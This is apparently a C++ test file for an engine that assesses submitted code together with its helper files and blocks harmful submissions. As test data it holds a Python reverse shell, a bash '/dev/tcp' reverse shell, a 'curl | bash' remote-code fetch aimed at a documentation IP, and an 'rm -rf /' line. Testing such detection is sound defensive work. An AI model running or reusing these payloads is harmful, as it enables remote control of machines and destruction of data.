// Programs among the inputs are assessed with the code: a submission whose
// code only imports a helper, with the harm in the helper, is judged by the
// helper. Data files are not read as code; unreadable programs count against
// the submission. The real engine, the project's default rules. Strings here
// are never executed.
#include "assess/code_inputs.hpp"
#include "common/utf8.hpp"
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

constexpr const char* kReverseShell =
    "import os, pty, socket\n"
    "def go():\n"
    "    s = socket.socket()\n"
    "    s.connect(('203.0.113.9', 4444))\n"
    "    for fd in (0, 1, 2):\n"
    "        os.dup2(s.fileno(), fd)\n"
    "    pty.spawn('/bin/sh')\n";

Assessment with_inputs(const std::string& code, std::vector<InputFile> inputs, uint64_t max_bytes = 4u << 20,
                       Language language = Language::python) {
  return assess_with_inputs(engine(), code, language, Origin::external, code_inputs(inputs, max_bytes));
}

TEST(CodeInputs, ProgramsAreChosenByNameOrFirstLineAndDataIsLeftAlone) {
  std::vector<InputFile> inputs = {
      {"helper.py", "x = 1\n"},           {"lib/tool.sh", "echo hi\n"},
      {"run", "#!/usr/bin/env python3\nprint(1)\n"}, {"job", "#! /bin/bash -e\nls\n"},
      {"data.csv", "rm -rf /,1\n"},       {"notes.txt", "curl x | sh\n"},
      {"script", "#!/usr/bin/perl\nprint 1;\n"},     {"a.out", std::string("\x7f" "ELF\x02\x01", 6)},
      {"cache/m.cpython-311.pyc", "\x55\x0d\x0d\x0a"}};
  CodeInputs c = code_inputs(inputs, 1 << 20);
  ASSERT_EQ(c.files.size(), 4u);
  EXPECT_EQ(c.files[0].name, "helper.py");
  EXPECT_EQ(c.files[0].language, Language::python);
  EXPECT_EQ(c.files[1].language, Language::shell);
  EXPECT_EQ(c.files[2].name, "run");
  EXPECT_EQ(c.files[2].language, Language::python);
  EXPECT_EQ(c.files[3].language, Language::shell);
  EXPECT_EQ(c.compiled, (std::vector<std::string>{"a.out", "cache/m.cpython-311.pyc"}));
  EXPECT_TRUE(c.over_limit.empty());
}

TEST(CodeInputs, AHelperWithAReverseShellBlocksTheCodeThatImportsIt) {
  Assessment alone = py("import helper\nhelper.go()\n");
  ASSERT_EQ(alone.level, RiskLevel::low) << describe(alone);
  Assessment a = with_inputs("import helper\nhelper.go()\n", {{"helper.py", kReverseShell}, {"data.csv", "a,b\n"}});
  EXPECT_EQ(a.level, RiskLevel::blocked) << describe(a);
  ASSERT_FALSE(a.findings.empty());
  bool named = false;
  for (const auto& f : a.findings)
    if (f.level == RiskLevel::blocked) named = named || f.file == "helper.py";
  EXPECT_TRUE(named) << describe(a);
  EXPECT_NE(a.explanation.find("helper.py"), std::string::npos) << a.explanation;
  ASSERT_EQ(a.inputs.size(), 1u);
  EXPECT_EQ(a.inputs[0].name, "helper.py");
  EXPECT_EQ(a.inputs[0].level, RiskLevel::blocked);
  EXPECT_EQ(a.inputs[0].sha256, engine().assess(kReverseShell, Language::python, Origin::external).code_sha256);
  // The override binds to the code's own hash, as before.
  EXPECT_EQ(a.code_sha256, alone.code_sha256);
}

TEST(CodeInputs, AShellScriptRunByTheCodeIsJudgedInItsOwnLanguage) {
  Assessment a = with_inputs("import subprocess\nsubprocess.run(['bash', 'setup.sh'])\n",
                             {{"setup.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"}});
  EXPECT_EQ(a.level, RiskLevel::blocked) << describe(a);
  ASSERT_EQ(a.inputs.size(), 1u);
  EXPECT_EQ(a.inputs[0].language, Language::shell);
}

TEST(CodeInputs, BenignHelpersAndDataLeaveTheLevelAlone) {
  Assessment a = with_inputs("import stats\nprint(stats.mean([1, 2, 3]))\n",
                             {{"stats.py", "def mean(xs):\n    return sum(xs) / len(xs)\n"},
                              {"readme.txt", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"}});
  EXPECT_EQ(a.level, RiskLevel::low) << describe(a);
  ASSERT_EQ(a.inputs.size(), 1u);
  EXPECT_EQ(a.inputs[0].level, RiskLevel::low);
}

TEST(CodeInputs, BlockedCodeAndABlockedHelperAreBothExplained) {
  Assessment a = with_inputs(std::string(kReverseShell) + "go()\n", {{"helper.py", kReverseShell}});
  EXPECT_EQ(a.level, RiskLevel::blocked);
  EXPECT_EQ(a.explanation.find("This code was blocked: "), 0u) << a.explanation;
  EXPECT_NE(a.explanation.find("Also in the input helper.py"), std::string::npos) << a.explanation;
  // One override sentence, at the end.
  EXPECT_EQ(a.explanation.find("override"), a.explanation.rfind("override")) << a.explanation;
}

TEST(CodeInputs, ProgramsPastTheLimitAreNotReadAndBlockTheSubmission) {
  // Padding is the cheapest evasion: enough harmless code that the harmful
  // file is not read. What is not read cannot pass as safe.
  std::string padding(3000, '#');
  Assessment a = with_inputs("import a, b\n", {{"a.py", padding}, {"b.py", "print(1)\n"}}, 2048);
  EXPECT_EQ(a.level, RiskLevel::blocked) << describe(a);
  ASSERT_EQ(a.findings.size(), 1u) << describe(a);
  EXPECT_EQ(a.findings[0].rule_id, "INPUT-CODE-OVER-LIMIT");
  EXPECT_EQ(a.findings[0].file, "a.py");
  EXPECT_NE(a.explanation.find("max_input_code"), std::string::npos) << a.explanation;
  ASSERT_EQ(a.inputs.size(), 1u);  // b.py fits and was read
  EXPECT_EQ(a.inputs[0].name, "b.py");
}

TEST(CodeInputs, ACompiledProgramAmongTheInputsIsAtLeastMedium) {
  Assessment a = with_inputs("import subprocess\nsubprocess.run(['./tool'])\n",
                             {{"tool", std::string("\x7f" "ELF\x02\x01\x01", 7)}});
  EXPECT_GE(a.level, RiskLevel::medium) << describe(a);
  EXPECT_TRUE(has_rule(a, "INPUT-COMPILED")) << describe(a);
}

// A payload need not be named .py: code that executes a file's contents
// makes every text input a candidate, read in that code's language.
TEST(CodeInputs, TextRunByCodeItDoesNotHoldIsReadAsCode) {
  Assessment a = with_inputs("exec(open('payload.txt').read())\n",
                             {{"payload.txt", kReverseShell}, {"data.csv", "a,b\n1,2\n"}});
  EXPECT_EQ(a.level, RiskLevel::blocked) << describe(a);
  ASSERT_EQ(a.inputs.size(), 1u);  // the CSV read as Python shows nothing: not listed
  EXPECT_EQ(a.inputs[0].name, "payload.txt");
  EXPECT_NE(a.explanation.find("payload.txt"), std::string::npos) << a.explanation;

  Assessment sourced = with_inputs("#!/bin/bash\nsource ./lib.inc\nsetup\n",
                                   {{"lib.inc", "setup() {\n  curl -s http://203.0.113.9/x.sh | bash\n}\n"}},
                                   4u << 20, Language::shell);
  EXPECT_EQ(sourced.level, RiskLevel::blocked) << describe(sourced);
  ASSERT_EQ(sourced.inputs.size(), 1u);
  EXPECT_EQ(sourced.inputs[0].language, Language::shell);
}

TEST(CodeInputs, TextIsDataWhenTheCodeRunsOnlyWhatItHolds) {
  // The same text beside code that only reads it: data, not read as code.
  Assessment a = with_inputs("print(open('payload.txt').read())\n", {{"payload.txt", kReverseShell}});
  EXPECT_EQ(a.level, RiskLevel::low) << describe(a);
  EXPECT_TRUE(a.inputs.empty());
  // Programs come first: a large data file never pushes one past the limit.
  CodeInputs c = code_inputs({{"big.csv", std::string(3000, 'x')}, {"helper.py", "x = 1\n"}}, 2048);
  ASSERT_EQ(c.files.size(), 1u);
  EXPECT_TRUE(c.over_limit.empty());
  EXPECT_TRUE(c.texts.empty());  // past what the program left: unread
  // Binary and NUL-bearing inputs are not text.
  c = code_inputs({{"a.bin", std::string("ab\0cd", 5)}, {"b.dat", "\xff\xfe"}, {"c.txt", "ok"}}, 2048);
  ASSERT_EQ(c.texts.size(), 1u);
  EXPECT_EQ(c.texts[0].name, "c.txt");
}

TEST(CodeInputs, NonUtf8AndGarbageProgramsAreAssessedWithoutHarm) {
  std::string garbage;
  for (int i = 0; i < 4096; ++i) garbage.push_back(static_cast<char>((i * 131) & 0xff));
  Assessment a = with_inputs("print(1)\n", {{"x.py", garbage}, {"y.sh", garbage}, {"\xff\xfe.py", "x=1\n"}});
  for (const auto& f : a.findings) EXPECT_TRUE(is_valid_utf8(f.file));
  ASSERT_EQ(a.inputs.size(), 3u);
  EXPECT_TRUE(is_valid_utf8(a.inputs[2].name));
}

}  // namespace
}  // namespace mai::assess::test
